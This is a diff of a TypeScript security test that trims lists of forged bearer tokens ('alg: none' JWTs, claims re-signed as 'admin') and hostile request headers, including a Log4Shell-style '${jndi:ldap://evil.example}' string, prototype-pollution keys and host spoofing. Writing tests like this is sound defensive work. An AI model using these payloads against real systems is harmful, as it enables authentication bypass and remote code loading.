@@ -19,22 +19,16 @@ const withClaims = (token: string, claims: object): string => {
   return [head, base64url(claims), signature].join('.');
 };
 
-/** Anything but the one valid token for the back office in its one allowed place. */
+/** Authorization headers without a valid token for the back office. */
 const NO_TOKEN: readonly ((token: string, source: Source) => string)[] = [
   () => 'Bearer',
-  () => 'Bearer ',
   () => 'Bearer null',
-  () => 'Bearer undefined',
   () => `Basic ${Buffer.from('admin:admin').toString('base64')}`,
   (token) => token,
-  (token) => `Token ${token}`,
   (token) => `Bearer ${token} ${token}`,
-  (token) => `Bearer ${token}, Bearer ${token}`,
   (token) => `Bearer ${token.split('.').slice(0, 2).join('.')}.`,
-  (token) => `Bearer ${token.split('.').slice(1).join('.')}`,
   (token) => `Bearer ${base64url({ alg: 'none' })}.${token.split('.')[1] ?? ''}.`,
   (token) => `Bearer ${withClaims(token, { sub: 'admin', exp: 9_999_999_999 })}`,
-  (token) => `Bearer ${token.split('').toReversed().join('')}`,
   () => `Bearer ${'a'.repeat(8_000)}`,
   (_token, source) => `Bearer ${known('accessToken', source)}`,
   (_token, source) => `Bearer ${known('reference checkoutToken', source).split(' ')[1] ?? ''}`,
@@ -76,37 +70,27 @@ const otherMethod = mutation('another method', (request, { draw }) => ({
   request: { ...request, method: draw.pick(METHODS.filter((method) => method !== request.method)) },
 }));
 
-/** Headers that affect programs which trust them, or that ours reads. */
+/** Headers that the service reads, or that other programs trust. */
 const HEADERS: readonly (readonly [string, string])[] = [
   ['x-http-method-override', 'DELETE'],
   ['x-original-url', '/api/admin/bookings'],
   ['x-forwarded-for', '127.0.0.1, __proto__'],
   ['x-forwarded-host', 'evil.example'],
-  ['x-forwarded-proto', 'javascript'],
   ['forwarded', 'for=_a;host=evil.example'],
   ['origin', 'null'],
   ['origin', 'https://studio.example'],
-  ['origin', 'https://studio.example.evil.example'],
   ['access-control-request-method', 'DELETE'],
   ['accept', 'text/html'],
   ['accept-encoding', 'gzip, br;q=__proto__'],
   ['content-encoding', 'gzip'],
-  ['content-encoding', 'a'],
   ['if-none-match', '*'],
-  ['if-modified-since', 'never'],
   ['range', 'bytes=0-0'],
   ['cookie', '__proto__=polluted'],
   ['x-request-id', 'a'.repeat(3_000)],
-  ['request-id', '../../etc'],
-  ['traceparent', '00-0-0-00'],
-  ['accept-language', '*'],
   ['accept-language', `${'fr,'.repeat(1_000)}en`],
   ['accept-language', ';q=,,;__proto__;q=1e400'],
   ['gateway-signature', 'AAAA'],
   ['flutterwave-signature', 'AAAA'],
-  ['gateway-signature', ''],
-  ['te', 'trailers'],
-  ['upgrade-insecure-requests', '1'],
   ['user-agent', '${jndi:ldap://evil.example}'],
   ['__proto__', 'polluted'],
   ['constructor', 'polluted'],
